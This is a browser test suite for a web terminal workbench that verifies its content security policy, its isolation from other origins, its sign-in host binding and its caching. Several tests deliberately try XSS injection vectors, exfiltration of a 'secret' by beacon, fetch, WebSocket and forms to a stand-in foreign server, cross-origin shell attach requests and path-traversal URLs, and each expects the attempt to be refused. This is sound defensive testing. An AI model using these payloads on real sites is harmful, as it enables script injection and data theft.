import { beforeAll, describe, expect, test } from 'bun:test'
import { eventually } from '@sandwire/testing'
import { findBrowserProblem } from './support/browser.ts'
import { PageRecorder, ForeignServer } from './support/page-recorder.ts'
import { type WorkbenchPage, WorkbenchFixture } from './support/workbench.ts'

const problem = findBrowserProblem() ?? (Bun.which('bwrap') === null ? 'no bubblewrap' : undefined)
const TIMEOUT_MS = 120_000

describe.skipIf(problem !== undefined)(
  `the workbench as a page${problem === undefined ? '' : ` (skipped: ${problem})`}`,
  () => {
    let fixture: WorkbenchFixture
    beforeAll(async () => {
      fixture = await WorkbenchFixture.open()
    }, TIMEOUT_MS)

    /** A page whose requests and errors are recorded from the start. */
    async function openWatched(): Promise<{ workbench: WorkbenchPage; recorder: PageRecorder }> {
      const workbench = await fixture.openPage()
      const recorder = await PageRecorder.watch(workbench.context, workbench.page)
      await workbench.page.reload()
      await workbench.first.until(({ status }) => status === 'attached')
      return { workbench, recorder }
    }

    test(
      'works within its content security policy',
      async () => {
        const { workbench, recorder } = await openWatched()
        await using _ = workbench
        const { page } = workbench
        const panel = (name: string) => page.getByRole('button', { name, exact: true }).first().click()
        await workbench.first.run(
          'git init -q . && git config user.email a@b.c && git config user.name A && ' +
            'printf "<b>one</b>\\n" > walk.html && git add . && git commit -qm first && ' +
            'printf "<b>two</b>\\n<script>let a = 1</script>\\n" > walk.html && printf "\\033[31mred\\033[0m done"; echo',
        )
        await workbench.first.waitFor('red done')

        await panel('Files')
        await page.getByRole('treeitem', { name: 'walk.html' }).click()
        await page.locator('.cm-content').getByText('two').waitFor()
        await page.keyboard.type('typed ')
        await page.keyboard.press('Control+S')
        await panel('Search')
        await page.getByLabel('Search in files').fill('script')
        await page.locator('.found-line').first().click()
        // Shortcuts work in the editor too.
        await page.locator('.cm-content').click()
        await page.keyboard.press('Control+Shift+Y')
        await page
          .getByRole('button', { name: /^walk\.html/ })
          .first()
          .click()
        await page.locator('.compare .cm-content').first().waitFor()
        await page.getByRole('button', { name: 'Inline' }).click()
        for (const title of ['Settings', 'Keyboard shortcuts']) {
          await workbench.command(title)
          await page.keyboard.press('Escape')
        }
        await page.getByRole('tab').first().click()
        await page.getByRole('button', { name: 'Share terminal' }).click()
        await page.getByRole('dialog').waitFor()
        expect(await recorder.violations()).toEqual([])
        expect(recorder.complaints).toEqual([])
        expect(recorder.hosts).toEqual([new URL(fixture.origin).host])
      },
      TIMEOUT_MS,
    )

    test(
      'runs no injected script (threat T25)',
      async () => {
        const { workbench } = await openWatched()
        await using _ = workbench
        await using foreign = new ForeignServer('globalThis.pwned = 1')
        const refused = await workbench.page.evaluate(async (other) => {
          const run = 'globalThis.pwned = 1'
          const attempts: Record<string, () => unknown> = {
            // oxlint-disable-next-line no-eval -- must be blocked
            eval: () => globalThis.eval(run),
            function: () => Reflect.construct(Function, [run])(),
            timer: () => Reflect.apply(setTimeout, globalThis, [run, 0]),
            markup: () => (document.body.innerHTML += `<img src=x onerror="${run}">`),
            range: () => document.createRange().createContextualFragment(`<script>${run}</script>`),
            write: () => document.write(`<script>${run}</script>`),
            text: () => {
              const script = document.createElement('script')
              script.text = run
              document.documentElement.append(script)
            },
            source: () => {
              const script = document.createElement('script')
              script.src = `${other}/x.js`
              document.documentElement.append(script)
            },
            frame: () => {
              const frame = document.createElement('iframe')
              frame.srcdoc = `<script>parent.${run}</script>`
              document.documentElement.append(frame)
            },
            worker: () => new Worker(`${other}/x.js`),
            policy: () => Reflect.get(globalThis, 'trustedTypes').createPolicy('mine', {}),
            defaultPolicy: () =>
              Reflect.get(globalThis, 'trustedTypes').createPolicy('default', {
                createHTML: (text: string) => text,
                createScript: (text: string) => text,
              }),
            import: () => import(`${other}/x.js`),
          }
          const outcomes: Record<string, string> = {}
          for (const [name, attempt] of Object.entries(attempts)) {
            // Code run by the debugger is exempt from the policy; timers are not.
            outcomes[name] = await new Promise((resolve) => {
              setTimeout(() => {
                Promise.try(attempt).then(
                  () => resolve('let'),
                  () => resolve('refused'),
                )
              }, 0)
            })
          }
          // A javascript: attribute throws nothing, and runs nothing.
          const holder = document.createElement('a')
          holder.href = `javascript:${run}`
          document.documentElement.append(holder)
          holder.click()
          await new Promise((resolve) => {
            setTimeout(resolve, 100)
          })
          return { outcomes, pwned: Reflect.get(globalThis, 'pwned') as unknown }
        }, foreign.origin)
        expect(new Set(Object.values(refused.outcomes))).toEqual(new Set(['refused']))
        expect(refused.pwned).toBeUndefined()
        expect(foreign.asked).toEqual([])
      },
      TIMEOUT_MS,
    )

    test(
      'sends nothing to another server (threat T3)',
      async () => {
        const { workbench } = await openWatched()
        await using _ = workbench
        await using foreign = new ForeignServer()
        await workbench.page.evaluate(async (other) => {
          const until = (make: () => unknown): Promise<unknown> => Promise.try(make).catch(() => undefined)
          await until(() => fetch(other, { mode: 'no-cors' }))
          await until(() => navigator.sendBeacon(`${other}/beacon`, 'secret'))
          await until(
            () =>
              new Promise((resolve) => {
                const socket = new WebSocket(other.replace('http', 'ws'))
                socket.addEventListener('open', resolve)
                socket.addEventListener('error', resolve)
              }),
          )
          await until(() => new EventSource(`${other}/events`))
          await until(
            () =>
              new Promise((resolve) => {
                const image = new Image()
                image.addEventListener('error', resolve)
                image.addEventListener('load', resolve)
                image.src = `${other}/pixel.png`
              }),
          )
          const style = document.createElement('style')
          style.textContent = `@import url(${other}/a.css); body { background: url(${other}/b.png) }`
          document.head.append(style)
          const frame = document.createElement('iframe')
          frame.src = `${other}/frame`
          document.body.append(frame)
          const form = document.createElement('form')
          form.action = `${other}/form`
          form.method = 'post'
          document.body.append(form)
          form.submit()
          await new Promise((resolve) => {
            setTimeout(resolve, 300)
          })
        }, foreign.origin)
        expect(foreign.asked).toEqual([])
        expect(workbench.page.url()).toBe(`${fixture.origin}/`)
      },
      TIMEOUT_MS,
    )

    test(
      'connects to no other server because of its URL, messages or storage (threat T3)',
      async () => {
        await using workbench = await fixture.openPage()
        await using foreign = new ForeignServer()
        const recorder = await PageRecorder.watch(workbench.context, workbench.page)
        const [http, ws] = [foreign.origin, foreign.origin.replace('http', 'ws')]
        const leaf = { kind: 'leaf', id: 'v1' }
        const layout = {
          tabs: [{ id: 't1', focus: 'v1', panes: JSON.stringify(leaf), url: ws }],
          active: 't1',
          views: JSON.stringify({
            v1: { kind: 'terminal', sandbox: `//localhost:${foreign.port}/x`, session: `${ws}/attach` },
          }),
        }
        const stored: Readonly<Record<string, string>> = {
          'sandwire.layout': JSON.stringify(layout),
          'sandwire.settings': JSON.stringify({ fontFamily: `x, url(${http}/f.woff2)`, url: ws }),
          'sandwire.open': JSON.stringify({ sandbox: http, session: `${ws}/attach`, role: 'viewer' }),
          ...Object.fromEntries(['wsUrl', 'gatewayUrl', 'url', 'sandwire.url'].map((key) => [key, ws])),
        }
        await workbench.page.evaluate((entries) => {
          for (const [key, value] of Object.entries(entries)) {
            localStorage.setItem(key, value)
            sessionStorage.setItem(key, value)
          }
        }, stored)
        const query = new URLSearchParams({ wsUrl: ws, gatewayUrl: ws, url: http, sandbox: http, server: ws })
        await workbench.page.goto(`${fixture.origin}/?${query.toString()}#gatewayUrl=${ws}&wsUrl=${ws}`)
        await workbench.page.locator('.workbench').waitFor()
        await workbench.page.evaluate((address) => {
          for (const message of [{ wsUrl: address }, { type: 'connect', url: address }, address])
            window.postMessage(message, '*')
        }, ws)
        // The stored session is requested from our own server, which does not know it.
        await workbench.page.locator('.banner.ended').first().waitFor()
        await workbench.page.getByRole('button', { name: 'New terminal', exact: true }).first().click()
        await workbench.first.until(({ status }) => status === 'attached')
        expect(foreign.asked).toEqual([])
        expect(recorder.hosts).toEqual([new URL(fixture.origin).host])
      },
      TIMEOUT_MS,
    )

    test(
      'cannot be framed or accessed by other origins (threat T1)',
      async () => {
        const { workbench } = await openWatched()
        await using _ = workbench
        const session = await workbench.first.session()
        const [sandbox = ''] = session.split('.')
        await using foreign = new ForeignServer()
        const evil = await workbench.context.newPage()
        for (const origin of [foreign.origin, `http://127.0.0.1:${foreign.port}`]) {
          await evil.goto(origin)
          await evil.evaluate((address) => {
            const frame = document.createElement('iframe')
            frame.src = address
            document.body.append(frame)
          }, fixture.origin)
          await eventually(() => evil.frames()[1]?.url().startsWith('chrome-error:'), {
            what: 'the frame to be refused',
          })
          const found = await evil.evaluate(
            async ({ app, paths }) => {
              const openOne = (path: string): Promise<string> =>
                new Promise((resolve) => {
                  const socket = new WebSocket(app.replace('http', 'ws') + path, ['sandwire.v1'])
                  socket.addEventListener('open', () => resolve(`${path} is open`))
                  socket.addEventListener('error', () => resolve('refused'))
                })
              const ask = (path: string, init: RequestInit = {}): Promise<string> =>
                fetch(app + path, { credentials: 'include', ...init }).then(
                  (response) => response.text(),
                  () => 'refused',
                )
              return Promise.all([
                ...paths.map(openOne),
                ask('/'),
                ask('/api/sandboxes'),
                ask('/api/tickets', { method: 'POST', body: '{}' }),
              ])
            },
            {
              app: fixture.origin,
              paths: [
                `/attach?session=${session}`,
                `/attach?sandbox=${sandbox}&cmd=sh`,
                `/terminal/${session}`,
                `/ws/pty?sandbox=${sandbox}`,
              ],
            },
          )
          expect(new Set(found)).toEqual(new Set(['refused']))
        }
        // Browsers send cookies to every port of a host.
        expect(foreign.cookies).toEqual([])
        // Opened in a window, the page has no opener.
        const [popup] = await Promise.all([
          workbench.context.waitForEvent('page'),
          evil.evaluate((address) => void window.open(address), fixture.origin),
        ])
        await popup.locator('.workbench').waitFor()
        expect(await popup.evaluate(() => window.opener === null)).toBe(true)
      },
      TIMEOUT_MS,
    )

    test(
      'signs in on the host of its link, wherever the link is pasted (threat T1)',
      async () => {
        await using workbench = await fixture.openSignedOut()
        const { page } = workbench
        const link = await fixture.link()
        await page.goto(`http://localhost:${fixture.host.port}/signin`)
        // The code alone is refused there, and stays valid.
        await page.getByLabel('Link or code').fill(new URL(link).hash.slice(1))
        await page.getByRole('button', { name: 'Sign in' }).click()
        await page.getByText('You cannot sign in under this host name.').waitFor()
        expect(await workbench.context.cookies()).toEqual([])
        await page.getByLabel('Link or code').fill(link)
        await page.getByRole('button', { name: 'Sign in' }).click()
        await page.locator('.workbench').waitFor()
        expect(new URL(page.url()).origin).toBe(fixture.origin)
        const cookies = await workbench.context.cookies()
        expect(cookies.map(({ domain }) => domain)).toEqual([new URL(fixture.origin).hostname])
      },
      TIMEOUT_MS,
    )

    test(
      'reaches a prompt within 300 KiB compressed, and loads the editor on demand',
      async () => {
        const { workbench, recorder } = await openWatched()
        await using _ = workbench
        const loaded = async (): Promise<number> => {
          const files = new Set(recorder.asked.filter((url) => new URL(url).pathname.startsWith('/assets/')))
          const bodies = await Promise.all(
            [...files].map(async (url) =>
              (await fetch(url.replace(fixture.origin, fixture.host.url))).bytes(),
            ),
          )
          return bodies.reduce((sum, body) => sum + Bun.gzipSync(body).byteLength, 0)
        }
        const atPrompt = await loaded()
        expect(atPrompt).toBeGreaterThan(50 * 1024)
        expect(atPrompt).toBeLessThanOrEqual(300 * 1024)
        await workbench.first.run('echo text > some.txt')
        await workbench.page.getByRole('button', { name: 'Files', exact: true }).first().click()
        await workbench.page.getByRole('treeitem', { name: 'some.txt' }).click()
        await workbench.page.locator('.cm-content').waitFor()
        expect(await loaded()).toBeGreaterThan(atPrompt + 50 * 1024)
      },
      TIMEOUT_MS,
    )

    test('is not cached, while its assets are cached forever', async () => {
      const ask = (path: string, method = 'GET') => fetch(`${fixture.host.url}${path}`, { method })
      const page = await ask('/')
      expect(page.headers.get('cache-control')).toBe('no-store')
      // A `blob:` URL has our origin, and can be opened alone.
      expect(page.headers.get('content-security-policy')).not.toContain('blob:')
      const named = Array.from((await page.text()).matchAll(/"(\/assets\/[^"]+)"/g), ([, file]) => file ?? '')
      expect(named.length).toBeGreaterThan(2)
      for (const file of named) {
        const [got, head] = await Promise.all([ask(file), ask(file, 'HEAD')])
        for (const answer of [got, head]) {
          expect(answer.status).toBe(200)
          expect(answer.headers.get('cache-control')).toBe('public, max-age=31536000, immutable')
          expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
          expect(answer.headers.get('content-security-policy')).toContain("default-src 'none'")
        }
        expect(await head.text()).toBe('')
        expect((await got.text()).includes('sourceMappingURL=')).toBe(false)
        expect((await ask(`${file}.map`)).status).toBe(404)
      }
      expect((await ask('/', 'HEAD')).status).toBe(200)
      for (const path of [
        '/index.html',
        '/assets/index.html',
        '/assets/none.js',
        '/assets/..%2Findex.html',
        '/assets/%2e%2e/index.html',
      ])
        expect((await ask(path)).status).not.toBe(200)
    })
  },
)
